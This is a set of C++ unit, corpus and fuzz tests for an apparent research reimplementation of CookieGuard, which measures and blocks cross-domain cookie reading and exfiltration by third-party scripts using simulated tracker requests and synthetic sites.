  // _ga exfiltrated to two destinations, _mk to one.
  log.requests.push_back(request(
      "https://bat.bing.com/a?g=444332364", "bing.com", 5));
  log.requests.push_back(request(
      "https://mc.yandex.ru/watch?g=444332364", "yandex.ru", 6));
  log.requests.push_back(request(
      "https://track.hubspot.com/p?m=id8765432187654321", "hubspot.com", 7));
  analyzer_.ingest(log);
  const auto top = analyzer_.top_exfiltrated(10);
  ASSERT_EQ(top.size(), 2u);
  EXPECT_EQ(top[0].pair.name, "_ga");
  EXPECT_EQ(top[0].stats->destination_entities.size(), 2u);
  const auto domains = analyzer_.top_exfiltrator_domains(10);
  ASSERT_EQ(domains.size(), 3u);
  EXPECT_EQ(domains[0].second, 1);
}

TEST_F(AnalyzerTest, PairUniquenessAcrossSites) {
  // The same (name, owner) pair on two sites stays one pair; the same name
  // with a different owner is a second pair (footnote 2 of the paper).
  for (int i = 0; i < 2; ++i) {
    auto log = base_log();
    log.script_sets.push_back(set_record(
        "_ga", "GA1.1.123412341234.1", "googletagmanager.com", 1));
    analyzer_.ingest(log);
  }
  auto log = base_log();
  log.script_sets.push_back(
      set_record("_ga", "GA1.2.432143214321.1", "google-analytics.com", 1));
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.pair_count(CookieSource::kDocumentCookie), 2);
  EXPECT_EQ(analyzer_.pairs()
                .at({"_ga", "googletagmanager.com"})
                .sites_set,
            2);
}

TEST_F(AnalyzerTest, DomPilotCountsSitesOnce) {
  auto log = base_log();
  log.dom_mods.push_back({"ads.com", "widgets.com"});
  log.dom_mods.push_back({"other.com", "example.com"});
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().sites_with_cross_dom_modification, 1);
}

TEST_F(AnalyzerTest, AttributionAccuracyBookkeeping) {
  auto log = base_log();
  auto good = set_record("a", "aaaaaaaaaaaa", "right.com", 1);
  good.true_domain = "right.com";
  auto bad = set_record("b", "bbbbbbbbbbbb", "helper.com", 2);
  bad.true_domain = "actual.com";
  log.script_sets.push_back(good);
  log.script_sets.push_back(bad);
  analyzer_.ingest(log);
  EXPECT_EQ(analyzer_.totals().attributed_sets, 2);
  EXPECT_EQ(analyzer_.totals().attribution_correct, 1);
}

TEST(TopCountsTest, SortsByCountThenName) {
  const std::map<std::string, int> counts = {
      {"b", 5}, {"a", 5}, {"c", 9}, {"d", 1}};
  const auto top = top_counts(counts, 3);
  ASSERT_EQ(top.size(), 3u);
  EXPECT_EQ(top[0].first, "c");
  EXPECT_EQ(top[1].first, "a");
  EXPECT_EQ(top[2].first, "b");
}

}  // namespace
}  // namespace cg::analysis

// Appended: §5.5 tracking-lifespan extension analysis.
namespace cg::analysis {
namespace {

TEST(LifespanTest, ExpiryExtensionTracked) {
  Analyzer analyzer(entities::EntityMap::builtin());
  auto log = base_log();
  log.script_sets.push_back(set_record("_fbp", "fb.1.174.868308499845",
                                       "facebook.net", 1));
  auto over = set_record("_fbp", "fb.2.175.999999999999", "pubmatic.com", 2,
                         CookieChange::Type::kOverwritten);
  over.expires_changed = true;
  over.prev_expires = 1746748800000;                       // +0 days
  over.new_expires = 1746748800000 + 30LL * 86400000;      // +30 days
  log.script_sets.push_back(over);
  analyzer.ingest(log);

  const auto& t = analyzer.totals();
  EXPECT_EQ(t.overwrite_expiry_extended, 1);
  EXPECT_EQ(t.overwrite_expiry_shortened, 0);
  EXPECT_NEAR(t.expiry_days_added, 30.0, 0.01);
}

TEST(LifespanTest, ShorteningCountedSeparately) {
  Analyzer analyzer(entities::EntityMap::builtin());
  auto log = base_log();
  log.script_sets.push_back(set_record("k", "aaaaaaaaaaaa", "a.com", 1));
  auto over = set_record("k", "bbbbbbbbbbbb", "b.com", 2,
                         CookieChange::Type::kOverwritten);
  over.expires_changed = true;
  over.prev_expires = 2000000000000;
  over.new_expires = 1900000000000;
  log.script_sets.push_back(over);
  analyzer.ingest(log);
  EXPECT_EQ(analyzer.totals().overwrite_expiry_extended, 0);
  EXPECT_EQ(analyzer.totals().overwrite_expiry_shortened, 1);
}

TEST(LifespanTest, SessionCookiesExcluded) {
  Analyzer analyzer(entities::EntityMap::builtin());
  auto log = base_log();
  log.script_sets.push_back(set_record("k", "aaaaaaaaaaaa", "a.com", 1));
  auto over = set_record("k", "bbbbbbbbbbbb", "b.com", 2,
                         CookieChange::Type::kOverwritten);
  over.expires_changed = true;
  over.prev_expires = 0;  // session cookie before: no defined lifetime delta
  over.new_expires = 2000000000000;
  log.script_sets.push_back(over);
  analyzer.ingest(log);
  EXPECT_EQ(analyzer.totals().overwrite_expiry_extended, 0);
  EXPECT_EQ(analyzer.totals().overwrite_expiry_shortened, 0);
}

}  // namespace
}  // namespace cg::analysis

// Appended: the fold/merge algebra behind batch analysis and the serving
// tier (analysis/fold.h).
namespace cg::analysis {
namespace {

TEST(FoldTest, FoldVisitIsPure) {
  auto log = base_log();
  log.script_sets.push_back(set_record("_ga", "GA1.2.1234567890",
                                       "google-analytics.com", 1));
  const auto& entities = entities::EntityMap::builtin();
  const SiteSummary a = fold_visit(entities, {}, log);
  const SiteSummary b = fold_visit(entities, {}, log);
  EXPECT_EQ(a.totals.script_set_events, b.totals.script_set_events);
  EXPECT_EQ(a.pairs.size(), b.pairs.size());
  EXPECT_EQ(a.setter_script_urls, b.setter_script_urls);
}

TEST(FoldTest, MergeKeepsFirstSettersCreationApi) {
  const auto& entities = entities::EntityMap::builtin();
  // Site 1 creates the pair via document.cookie; site 2 re-creates the same
  // (name, owner) pair via cookieStore. First-setter-wins: the merged pair
  // stays a document.cookie creation, with both sites counted.
  auto first = base_log();
  first.script_sets.push_back(set_record("k", "aaaaaaaaaaaa", "owner.com", 1));
  auto second = base_log();
  second.site = "other.com";
  second.site_host = "www.other.com";
  second.script_sets.push_back(
      set_record("k", "bbbbbbbbbbbb", "owner.com", 1,
                 cookies::CookieChange::Type::kCreated,
                 CookieSource::kCookieStore));

  SiteSummary merged = fold_visit(entities, {}, first);
  merged.merge(fold_visit(entities, {}, second));

  const CookiePair pair{"k", "owner.com"};
  ASSERT_TRUE(merged.pairs.count(pair));
  EXPECT_EQ(merged.pairs.at(pair).created_via,
            CookieSource::kDocumentCookie);
  EXPECT_EQ(merged.pairs.at(pair).sites_set, 2);
  // And merging in the opposite order keeps the *other* first setter.
  SiteSummary reversed = fold_visit(entities, {}, second);
  reversed.merge(fold_visit(entities, {}, first));
  EXPECT_EQ(reversed.pairs.at(pair).created_via,
            CookieSource::kCookieStore);
}

TEST(FoldTest, MergeRecomputesUniqueSetterScriptsExactly) {
  const auto& entities = entities::EntityMap::builtin();
  // The same setter URL appears on both sites: the summed upper bound would
  // say 2; the merged set must say 1.
  auto first = base_log();
  first.script_sets.push_back(set_record("a", "aaaaaaaaaaaa", "cdn.com", 1));
  auto second = base_log();
  second.site = "other.com";
  second.site_host = "www.other.com";
  second.script_sets.push_back(set_record("b", "bbbbbbbbbbbb", "cdn.com", 1));

  SiteSummary merged = fold_visit(entities, {}, first);
  merged.merge(fold_visit(entities, {}, second));
  EXPECT_EQ(merged.setter_script_urls.size(), 1u);
  EXPECT_EQ(merged.totals.unique_setter_scripts, 1);
}

TEST(FoldTest, AnalyzerIngestEqualsFoldMerge) {
  const auto& entities = entities::EntityMap::builtin();
  auto first = base_log();
  first.script_sets.push_back(set_record("x", "aaaaaaaaaaaa", "a.com", 1));
  auto second = base_log();
  second.site = "other.com";
  second.site_host = "www.other.com";
  second.script_sets.push_back(set_record("y", "bbbbbbbbbbbb", "b.com", 1));

  Analyzer sequential(entities);
  sequential.ingest(first);
  sequential.ingest(second);

  Analyzer applied(entities);
  SiteSummary folded = fold_visit(entities, {}, first);
  folded.merge(fold_visit(entities, {}, second));
  applied.apply(std::move(folded));

  EXPECT_EQ(sequential.totals().sites_crawled,
            applied.totals().sites_crawled);
  EXPECT_EQ(sequential.totals().script_set_events,
            applied.totals().script_set_events);
  EXPECT_EQ(sequential.pairs().size(), applied.pairs().size());
  EXPECT_EQ(sequential.domains().size(), applied.domains().size());
}

}  // namespace
}  // namespace cg::analysis
