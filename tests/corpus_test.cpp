// Tests for the synthetic corpus: determinism, composition statistics,
// catalog integrity, and the attach() wiring.
#include <gtest/gtest.h>

#include <set>

#include "browser/page.h"
#include "corpus/corpus.h"
#include "net/psl.h"
#include "cookieguard/signatures.h"
#include "script/interpreter.h"

namespace cg::corpus {
namespace {

CorpusParams small_params(int n = 400) {
  CorpusParams params;
  params.site_count = n;
  return params;
}

TEST(CorpusTest, DeterministicAcrossConstructions) {
  Corpus a(small_params(60));
  Corpus b(small_params(60));
  ASSERT_EQ(a.size(), b.size());
  for (int i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a.site(i).host, b.site(i).host);
    EXPECT_EQ(a.site(i).doc.script_ids, b.site(i).doc.script_ids);
    EXPECT_EQ(a.site(i).has_sso, b.site(i).has_sso);
  }
  EXPECT_EQ(a.catalog().size(), b.catalog().size());
}

TEST(CorpusTest, DifferentSeedsDiffer) {
  CorpusParams p1 = small_params(40);
  CorpusParams p2 = small_params(40);
  p2.seed = 0xDEAD;
  Corpus a(p1), b(p2);
  int differing = 0;
  for (int i = 0; i < a.size(); ++i) {
    if (a.site(i).doc.script_ids != b.site(i).doc.script_ids) ++differing;
  }
  EXPECT_GT(differing, 10);
}

TEST(CorpusTest, EveryDocumentScriptIdResolvesInCatalog) {
  Corpus corpus(small_params());
  for (int i = 0; i < corpus.size(); ++i) {
    for (const auto& id : corpus.site(i).doc.script_ids) {
      EXPECT_NE(corpus.catalog().find(id), nullptr) << id;
    }
  }
}

TEST(CorpusTest, EveryInjectedScriptIdResolves) {
  Corpus corpus(small_params());
  std::set<std::string> missing;
  std::function<void(const std::vector<script::ScriptOp>&)> walk =
      [&](const std::vector<script::ScriptOp>& ops) {
        for (const auto& op : ops) {
          if (op.kind == script::OpKind::kInjectScript &&
              corpus.catalog().find(op.inject_script_id) == nullptr) {
            missing.insert(op.inject_script_id);
          }
          if (!op.nested.empty()) walk(op.nested);
        }
      };
  for (const auto& [id, spec] : corpus.catalog().all()) walk(spec.ops);
  EXPECT_TRUE(missing.empty()) << *missing.begin();
}

TEST(CorpusTest, FirstPartyBundlePerSite) {
  Corpus corpus(small_params(50));
  for (int i = 0; i < corpus.size(); ++i) {
    const auto& ids = corpus.site(i).doc.script_ids;
    EXPECT_EQ(ids.front(), "fp#" + std::to_string(i + 1));
  }
}

TEST(CorpusTest, ThirdPartyPresenceNearPaperRate) {
  Corpus corpus(small_params(2000));
  int with_tp = 0;
  for (int i = 0; i < corpus.size(); ++i) {
    const auto& bp = corpus.site(i);
    for (const auto& id : bp.doc.script_ids) {
      const auto url = resolve_script_url(corpus.catalog(), id, bp.host);
      if (url.empty()) continue;
      if (net::etld_plus_one(net::Url::must_parse(url).host()) != bp.site) {
        ++with_tp;
        break;
      }
    }
  }
  const double rate = static_cast<double>(with_tp) / corpus.size();
  EXPECT_NEAR(rate, 0.933, 0.03);  // paper §5.1
}

TEST(CorpusTest, CrossActionOpsAreDeferredToAsync) {
  Corpus corpus(small_params(30));
  // After post-processing, no top-level exfiltrate/overwrite/delete ops
  // remain: they all moved into a trailing setTimeout.
  for (const auto& [id, spec] : corpus.catalog().all()) {
    for (const auto& op : spec.ops) {
      EXPECT_NE(op.kind, script::OpKind::kExfiltrate) << id;
      EXPECT_NE(op.kind, script::OpKind::kOverwriteCookie) << id;
      EXPECT_NE(op.kind, script::OpKind::kDeleteCookie) << id;
    }
  }
}

TEST(CorpusTest, ConsentDeclineVariantsDeferDeletesLate) {
  Corpus corpus(small_params(10));
  const auto* decline = corpus.catalog().find("cookieyes+decline");
  ASSERT_NE(decline, nullptr);
  bool has_late_delete = false;
  for (const auto& op : decline->ops) {
    if (op.kind != script::OpKind::kAsync) continue;
    for (const auto& nested : op.nested) {
      if (nested.kind == script::OpKind::kDeleteCookie) {
        has_late_delete = true;
        EXPECT_GE(op.delay_ms, 1500);
      }
    }
  }
  EXPECT_TRUE(has_late_delete);
}

TEST(CorpusTest, SsoBlueprintsConsistent) {
  Corpus corpus(small_params(2000));
  int sso = 0, two_domain = 0;
  for (int i = 0; i < corpus.size(); ++i) {
    const auto& bp = corpus.site(i);
    if (!bp.has_sso) {
      EXPECT_TRUE(bp.sso_provider_a.empty());
      continue;
    }
    ++sso;
    EXPECT_FALSE(bp.sso_provider_a.empty());
    if (bp.sso_two_domain) {
      ++two_domain;
      EXPECT_FALSE(bp.sso_provider_b.empty());
      EXPECT_NE(bp.sso_provider_a, bp.sso_provider_b);
    }
  }
  EXPECT_NEAR(static_cast<double>(sso) / corpus.size(), 0.17 * 0.933, 0.03);
  EXPECT_GT(two_domain, 0);
}

TEST(CorpusTest, AdmiralVariantsUseDistinctDomains) {
  Corpus corpus(small_params(3000));
  std::set<std::string> admiral_domains;
  for (const auto& [id, spec] : corpus.catalog().all()) {
    if (id.starts_with("admiral#")) {
      admiral_domains.insert(
          net::Url::must_parse(spec.url_template).site());
    }
  }
  // Every Admiral deployment is hosted on its own domain — the mechanism
  // behind the paper's 411 cookieStore pairs across 361 domains (§5.2).
  EXPECT_GT(admiral_domains.size(), 10u);
}

TEST(CorpusTest, AttachServesDocumentCookies) {
  Corpus corpus(small_params(5));
  const auto& bp = corpus.site(0);
  browser::Browser browser({}, 1);
  corpus.attach(browser, bp);
  auto page = browser.navigate(net::Url::must_parse("https://" + bp.host + "/"));
  // The site server always sets at least the HttpOnly sid cookie.
  bool has_sid = false;
  for (const auto& cookie : browser.jar().all()) {
    if (cookie.name == "sid") {
      has_sid = true;
      EXPECT_TRUE(cookie.http_only);
    }
  }
  EXPECT_TRUE(has_sid);
  EXPECT_EQ(page->spec().link_paths.size(), bp.doc.link_paths.size());
}

TEST(CorpusTest, GaDimsVariantExists) {
  Corpus corpus(small_params(5));
  const auto* dims = corpus.catalog().find("ga-legacy+dims");
  ASSERT_NE(dims, nullptr);
  bool ships_jar = false;
  for (const auto& op : dims->ops) {
    if (op.kind == script::OpKind::kAsync) {
      for (const auto& nested : op.nested) {
        if (nested.kind == script::OpKind::kExfiltrate &&
            nested.exfiltrate_whole_jar) {
          ships_jar = true;
        }
      }
    }
  }
  EXPECT_TRUE(ships_jar);
}

}  // namespace
}  // namespace cg::corpus

// Appended: §8 evasion features in the corpus.
namespace cg::corpus {
namespace {

TEST(CorpusEvasionTest, CloakedTrackerSitesAreRegistered) {
  Corpus corpus(small_params(2000));
  int cloaked = 0;
  for (int i = 0; i < corpus.size(); ++i) {
    const auto& bp = corpus.site(i);
    if (!bp.has_cloaked_tracker) continue;
    ++cloaked;
    EXPECT_EQ(bp.cloaked_host, "metrics." + bp.site);
    // The cloaked spec exists and is served from the first-party subdomain.
    const auto* spec =
        corpus.catalog().find("cloak#" + std::to_string(bp.rank));
    ASSERT_NE(spec, nullptr);
    EXPECT_NE(spec->url_template.find(bp.cloaked_host), std::string::npos);
  }
  EXPECT_NEAR(static_cast<double>(cloaked) / corpus.size(),
              corpus.params().cname_cloaking_rate * 0.933, 0.02);
}

TEST(CorpusEvasionTest, AttachRegistersCnameRecord) {
  Corpus corpus(small_params(2000));
  for (int i = 0; i < corpus.size(); ++i) {
    const auto& bp = corpus.site(i);
    if (!bp.has_cloaked_tracker) continue;
    browser::Browser browser({}, 1);
    corpus.attach(browser, bp);
    EXPECT_EQ(browser.dns().resolve_canonical(bp.cloaked_host),
              "collect.cloaktrack.net");
    return;  // one site suffices
  }
  FAIL() << "no cloaked site generated";
}

TEST(CorpusEvasionTest, InlineGtagMatchesGtagSignature) {
  Corpus corpus(small_params(10));
  const auto* gtag = corpus.catalog().find("gtag");
  const auto* inline_gtag = corpus.catalog().find("inline-gtag");
  ASSERT_NE(gtag, nullptr);
  ASSERT_NE(inline_gtag, nullptr);
  EXPECT_TRUE(inline_gtag->is_inline);
  // The whole point: the verbatim inline copy has the same behaviour
  // signature as the hosted script (delays excluded).
  EXPECT_EQ(cookieguard::SignatureDb::signature_of(*gtag),
            cookieguard::SignatureDb::signature_of(*inline_gtag));
}

}  // namespace
}  // namespace cg::corpus
