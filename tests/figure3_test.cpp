// Reproduces the paper's Figure 3 walkthrough, step by step, as an
// executable specification of CookieGuard's design (§6.1):
//
//   (1) site.com's server sets "c0" via Set-Cookie  -> creator site.com
//   (2) a site.com script sets "c1"                 -> creator site.com
//   (3) an ad.com script sets "c2"                  -> browser: first-party,
//                                                      CookieGuard: ad.com
//   (4) the ad.com script reads document.cookie     -> sees only "c2"
//   (5) a site.com script reads document.cookie     -> sees c0, c1, c2
#include <gtest/gtest.h>

#include "cookieguard/cookieguard.h"
#include "script/interpreter.h"
#include "test_support.h"

namespace cg {
namespace {

class Figure3Test : public ::testing::Test {
 protected:
  Figure3Test() {
    // Step 1 happens during load: site.com's server sets c0.
    site_.emplace(std::vector<std::string>{});
    site_->browser().network().register_host(
        "www.shop.example", [](const net::HttpRequest& req) {
          net::HttpResponse res;
          if (req.destination == net::RequestDestination::kDocument) {
            res.headers.add("Set-Cookie", "c0=server-side; Path=/");
          }
          return res;
        });
    site_->browser().add_extension(&guard_);
    page_ = site_->open();

    // Step 2: a first-party script sets c1.
    const auto fp = testsupport::context_for_url(
        "https://www.shop.example/assets/app.js");
    page_->run_as(fp, [&](script::PageServices& services) {
      services.document_cookie_write(fp, "c1=first-party; Path=/");
    });

    // Step 3: ad.com's script, embedded in the main frame, sets c2.
    const auto ad = testsupport::context_for_url("https://cdn.ad-corp.net/a.js");
    page_->run_as(ad, [&](script::PageServices& services) {
      services.document_cookie_write(ad, "c2=ghost-written; Path=/");
    });
  }

  std::string read_as(const std::string& url) {
    const auto ctx = testsupport::context_for_url(url);
    std::string out;
    page_->run_as(ctx, [&](script::PageServices& services) {
      out = services.document_cookie_read(ctx);
    });
    return out;
  }

  cookieguard::CookieGuard guard_;
  std::optional<testsupport::TestSite> site_;
  std::unique_ptr<browser::Page> page_;
};

TEST_F(Figure3Test, BrowserTreatsAllThreeAsFirstParty) {
  // The original cookie jar's domain column: all site.com (www.shop.example).
  ASSERT_EQ(site_->browser().jar().size(), 3u);
  for (const auto& cookie : site_->browser().jar().all()) {
    EXPECT_EQ(cookie.domain, "www.shop.example") << cookie.name;
  }
}

TEST_F(Figure3Test, CookieGuardRecordsTrueCreators) {
  EXPECT_EQ(guard_.store().creator("c0"), "shop.example");
  EXPECT_EQ(guard_.store().creator("c1"), "shop.example");
  EXPECT_EQ(guard_.store().creator("c2"), "ad-corp.net");
}

TEST_F(Figure3Test, Step4AdScriptSeesOnlyItsOwnCookie) {
  EXPECT_EQ(read_as("https://cdn.ad-corp.net/a.js"), "c2=ghost-written");
}

TEST_F(Figure3Test, Step5SiteScriptSeesAllFirstPartyCookies) {
  const auto jar = read_as("https://www.shop.example/assets/app.js");
  EXPECT_NE(jar.find("c0=server-side"), std::string::npos);
  EXPECT_NE(jar.find("c1=first-party"), std::string::npos);
  EXPECT_NE(jar.find("c2=ghost-written"), std::string::npos);
}

TEST_F(Figure3Test, WithoutCookieGuardAdScriptSeesEverything) {
  // Control: the same walkthrough in a plain browser shows why the paper's
  // Figure 1 calls the jar a shared resource.
  testsupport::TestSite plain;
  auto page = plain.open();
  const auto fp =
      testsupport::context_for_url("https://www.shop.example/assets/app.js");
  const auto ad = testsupport::context_for_url("https://cdn.ad-corp.net/a.js");
  page->run_as(fp, [&](script::PageServices& services) {
    services.document_cookie_write(fp, "c1=first-party; Path=/");
  });
  page->run_as(ad, [&](script::PageServices& services) {
    services.document_cookie_write(ad, "c2=ghost-written; Path=/");
    const auto jar = services.document_cookie_read(ad);
    EXPECT_NE(jar.find("c1="), std::string::npos);
    EXPECT_NE(jar.find("c2="), std::string::npos);
  });
}

}  // namespace
}  // namespace cg
