// Robustness sweeps: the parsers at the trust boundary (URLs, Set-Cookie
// lines, cookie strings, query strings, dates) must never misbehave on
// arbitrary input — they process attacker-controlled bytes in a real
// deployment. Deterministic pseudo-fuzzing: thousands of generated inputs
// per parser, checking no-crash plus structural invariants.
#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "cookies/cookie_jar.h"
#include "crawler/crawler.h"
#include "net/http_date.h"
#include "net/query.h"
#include "net/set_cookie.h"
#include "net/url.h"
#include "report/json.h"
#include "script/interpreter.h"
#include "script/rng.h"
#include "store/reader.h"
#include "store/record_codec.h"
#include "store/writer.h"

namespace cg {
namespace {

std::string random_bytes(script::Rng& rng, std::size_t max_len) {
  const std::size_t len = rng.below(max_len + 1);
  std::string out;
  out.reserve(len);
  for (std::size_t i = 0; i < len; ++i) {
    out.push_back(static_cast<char>(rng.below(256)));
  }
  return out;
}

// Printable-ish variant biased toward structural characters parsers care
// about.
std::string random_structured(script::Rng& rng, std::size_t max_len) {
  static constexpr char kAlphabet[] =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789"
      "=;,:./?&%#@{}[]()<>\"'\\ \t-_~+*";
  const std::size_t len = rng.below(max_len + 1);
  std::string out;
  out.reserve(len);
  for (std::size_t i = 0; i < len; ++i) {
    out.push_back(kAlphabet[rng.below(sizeof(kAlphabet) - 1)]);
  }
  return out;
}

TEST(FuzzTest, UrlParserNeverCrashesAndRoundTripsWhenAccepted) {
  script::Rng rng(0xF022);
  for (int i = 0; i < 4000; ++i) {
    const auto input = i % 2 == 0 ? random_bytes(rng, 120)
                                  : "https://" + random_structured(rng, 80);
    const auto url = net::Url::parse(input);
    if (!url) continue;
    // Accepted URLs must re-parse to themselves.
    const auto again = net::Url::parse(url->spec());
    ASSERT_TRUE(again.has_value()) << url->spec();
    EXPECT_EQ(again->origin(), url->origin());
    EXPECT_FALSE(url->host().empty());
  }
}

TEST(FuzzTest, SetCookieParserToleratesGarbage) {
  script::Rng rng(0xF0CC);
  for (int i = 0; i < 4000; ++i) {
    const auto input = i % 2 == 0 ? random_bytes(rng, 200)
                                  : random_structured(rng, 200);
    const auto parsed = net::parse_set_cookie(input);
    if (!parsed) continue;
    // Parsed names/values never contain the separators that would break
    // re-serialisation into a jar line.
    EXPECT_EQ(parsed->name.find(';'), std::string::npos);
    if (!parsed->path.empty()) {
      EXPECT_EQ(parsed->path.front(), '/');
    }
  }
}

TEST(FuzzTest, SetCookieSerializeRoundTripsParsedHeaders) {
  // Any header the parser accepts must survive serialize → re-parse with
  // every field intact (the attribute vocabulary includes Partitioned, the
  // CHIPS attribute the policy layer keys on).
  static constexpr const char* kAttrs[] = {
      "Secure",          "HttpOnly",        "Partitioned",
      "partitioned",     "Path=/a/b",       "Domain=fuzz-site.com",
      "Max-Age=3600",    "Max-Age=-1",      "SameSite=Lax",
      "SameSite=None",   "SameSite=Strict", "Expires=Wed, 09 Jun 2021 10:18:14 GMT",
      "Expires=garbage", "Path=relative",   "",
  };
  script::Rng rng(0xF0CD);
  for (int i = 0; i < 4000; ++i) {
    std::string input = random_structured(rng, 30);
    const std::size_t attrs = rng.below(5);
    for (std::size_t a = 0; a < attrs; ++a) {
      input += "; ";
      input += kAttrs[rng.below(sizeof(kAttrs) / sizeof(kAttrs[0]))];
    }
    const auto parsed = net::parse_set_cookie(input);
    if (!parsed) continue;
    const auto again = net::parse_set_cookie(net::serialize_set_cookie(*parsed));
    ASSERT_TRUE(again.has_value()) << input;
    EXPECT_EQ(again->name, parsed->name) << input;
    EXPECT_EQ(again->value, parsed->value) << input;
    EXPECT_EQ(again->domain, parsed->domain) << input;
    EXPECT_EQ(again->path, parsed->path) << input;
    EXPECT_EQ(again->expires, parsed->expires) << input;
    EXPECT_EQ(again->max_age_ms, parsed->max_age_ms) << input;
    EXPECT_EQ(again->secure, parsed->secure) << input;
    EXPECT_EQ(again->http_only, parsed->http_only) << input;
    EXPECT_EQ(again->same_site == net::SameSite::kUnspecified,
              parsed->same_site == net::SameSite::kUnspecified)
        << input;
    EXPECT_EQ(again->partitioned, parsed->partitioned) << input;
  }
}

TEST(FuzzTest, CookieJarSurvivesArbitraryWrites) {
  script::Rng rng(0x7A66);
  cookies::CookieJar jar;
  const auto url = net::Url::must_parse("https://www.fuzz-site.com/a/b");
  for (int i = 0; i < 3000; ++i) {
    jar.set_from_string(url, random_structured(rng, 150),
                        1746748800000 + i);
  }
  // Whatever landed must serialise and re-parse cleanly.
  const auto serialized = jar.document_cookie_string(url, 1746749800000);
  for (const auto& cookie : script::parse_cookie_string(serialized)) {
    EXPECT_EQ(cookie.name.find(';'), std::string::npos);
  }
  EXPECT_LE(jar.size(), cookies::CookieJar::kMaxCookies);
}

TEST(FuzzTest, QueryParserRoundTripsDecodedPairs) {
  script::Rng rng(0x0E52);
  for (int i = 0; i < 3000; ++i) {
    const auto input = random_structured(rng, 120);
    const auto params = net::parse_query(input);
    // Rebuilding and re-parsing yields the same decoded pairs.
    const auto rebuilt = net::parse_query(net::build_query(params));
    EXPECT_EQ(rebuilt, params) << input;
  }
}

TEST(FuzzTest, CookieDateParserNeverCrashes) {
  script::Rng rng(0xDA7E);
  for (int i = 0; i < 4000; ++i) {
    const auto input = i % 2 == 0 ? random_bytes(rng, 64)
                                  : random_structured(rng, 64);
    const auto t = net::parse_cookie_date(input);
    if (t) {
      // Accepted dates format and re-parse to the same instant.
      EXPECT_EQ(net::parse_cookie_date(net::format_http_date(*t)), *t)
          << input;
    }
  }
}

// ---- report::Json parser -------------------------------------------------
// The parser reads checkpoint files off disk on resume — a truncated or
// corrupted checkpoint must degrade to "cannot parse", never crash or hang.

TEST(FuzzTest, JsonParserNeverCrashesAndRoundTripsWhenAccepted) {
  script::Rng rng(0x150D);
  for (int i = 0; i < 4000; ++i) {
    const auto input = i % 2 == 0 ? random_bytes(rng, 200)
                                  : random_structured(rng, 200);
    const auto parsed = report::Json::parse(input);
    if (!parsed) continue;
    // Accepted documents must survive dump -> parse -> dump unchanged.
    const auto again = report::Json::parse(parsed->dump());
    ASSERT_TRUE(again.has_value()) << input;
    EXPECT_EQ(again->dump(), parsed->dump()) << input;
  }
}

TEST(FuzzTest, JsonParserEnforcesItsDepthLimitWithoutOverflow) {
  const auto nested = [](int depth) {
    std::string text(static_cast<std::size_t>(depth), '[');
    text += "1";
    text.append(static_cast<std::size_t>(depth), ']');
    return text;
  };
  // Find the deepest accepted nesting; it must sit at the documented limit
  // (kMaxDepth = 64), not at the stack's mercy.
  int deepest = 0;
  for (int depth = 1; depth <= 80; ++depth) {
    if (report::Json::parse(nested(depth)).has_value()) deepest = depth;
  }
  EXPECT_GE(deepest, 60);
  EXPECT_LE(deepest, 66);
  EXPECT_FALSE(report::Json::parse(nested(deepest + 1)).has_value());
  // Pathological depth parses to rejection, not a stack overflow. Mixed
  // object/array nesting hits the same guard.
  EXPECT_FALSE(report::Json::parse(nested(100000)).has_value());
  std::string mixed;
  for (int i = 0; i < 200; ++i) mixed += R"({"k":[)";
  EXPECT_FALSE(report::Json::parse(mixed).has_value());
}

TEST(FuzzTest, JsonParserRejectsEveryTruncationOfAValidDocument) {
  auto doc = report::Json::object();
  doc["name"] = "checkpoint";
  doc["next_index"] = 150;
  doc["rate"] = 0.254;
  doc["ok"] = true;
  doc["none"] = nullptr;
  auto ranks = report::Json::array();
  for (int i = 0; i < 10; ++i) ranks.push_back(i * 3);
  doc["ranks"] = std::move(ranks);
  auto inner = report::Json::object();
  inner["esc"] = "quote\" slash\\ tab\t newline\n";
  doc["health"] = std::move(inner);

  const std::string text = doc.dump(2);
  ASSERT_TRUE(report::Json::parse(text).has_value());
  // A document truncated anywhere strictly inside is never valid (the
  // top-level value is an object, so no proper prefix closes it) — and
  // never crashes the parser.
  for (std::size_t len = 0; len < text.size(); ++len) {
    EXPECT_FALSE(report::Json::parse(text.substr(0, len)).has_value())
        << "prefix length " << len;
  }
  // Trailing garbage after a complete document is also an error.
  EXPECT_FALSE(report::Json::parse(text + "x").has_value());
}

TEST(FuzzTest, JsonParserToleratesMalformedStringEscapes) {
  script::Rng rng(0xE5CA);
  static constexpr const char* kBroken[] = {
      R"("\)",        // backslash at end of input
      R"("\q")",      // unknown escape
      R"("\u12")",    // truncated unicode escape
      R"("\u12zz")",  // non-hex unicode escape
      R"("\u")",      // bare \u
      "\"abc",        // unterminated string
      "\"a\nb\"",     // raw control character inside a string
  };
  for (const char* text : kBroken) {
    const auto parsed = report::Json::parse(text);
    if (parsed) {
      // If the parser chooses to accept it, the result must round-trip.
      const auto again = report::Json::parse(parsed->dump());
      ASSERT_TRUE(again.has_value()) << text;
      EXPECT_EQ(again->dump(), parsed->dump()) << text;
    }
  }
  // Random escape soup inside string literals.
  for (int i = 0; i < 2000; ++i) {
    std::string text = "\"";
    const std::size_t len = rng.below(30);
    for (std::size_t j = 0; j < len; ++j) {
      text += (rng.below(3) == 0) ? '\\'
                                  : static_cast<char>(rng.below(256));
    }
    text += "\"";
    const auto parsed = report::Json::parse(text);
    if (parsed) {
      const auto again = report::Json::parse(parsed->dump());
      ASSERT_TRUE(again.has_value()) << text;
    }
  }
}

// ---- store::Reader -------------------------------------------------------
// The archive reader consumes files that may have been truncated by a
// crash, bit-rotted on disk, or stitched together by a buggy sync tool.
// Whatever the bytes, it must return a fault::ArchiveFault taxonomy code —
// never crash, hang, or fabricate records with out-of-range enums.

/// A small but structurally rich archive: several sites, shared strings,
/// every record channel populated.
std::string seed_archive(script::Rng& rng) {
  std::ostringstream out;
  store::WriterOptions writer_options;
  writer_options.corpus_seed = 0xC0FFEEu;
  writer_options.fault_seed = 0xFA17u;
  store::Writer writer(&out, writer_options);
  for (int rank = 0; rank < 8; ++rank) {
    instrument::VisitLog log;
    log.site_host = "www.site" + std::to_string(rank) + ".com";
    log.site = "site" + std::to_string(rank) + ".com";
    log.rank = rank;
    log.has_cookie_logs = true;
    log.has_request_logs = rank % 2 == 0;
    log.attempts = 1 + static_cast<int>(rng.below(3));
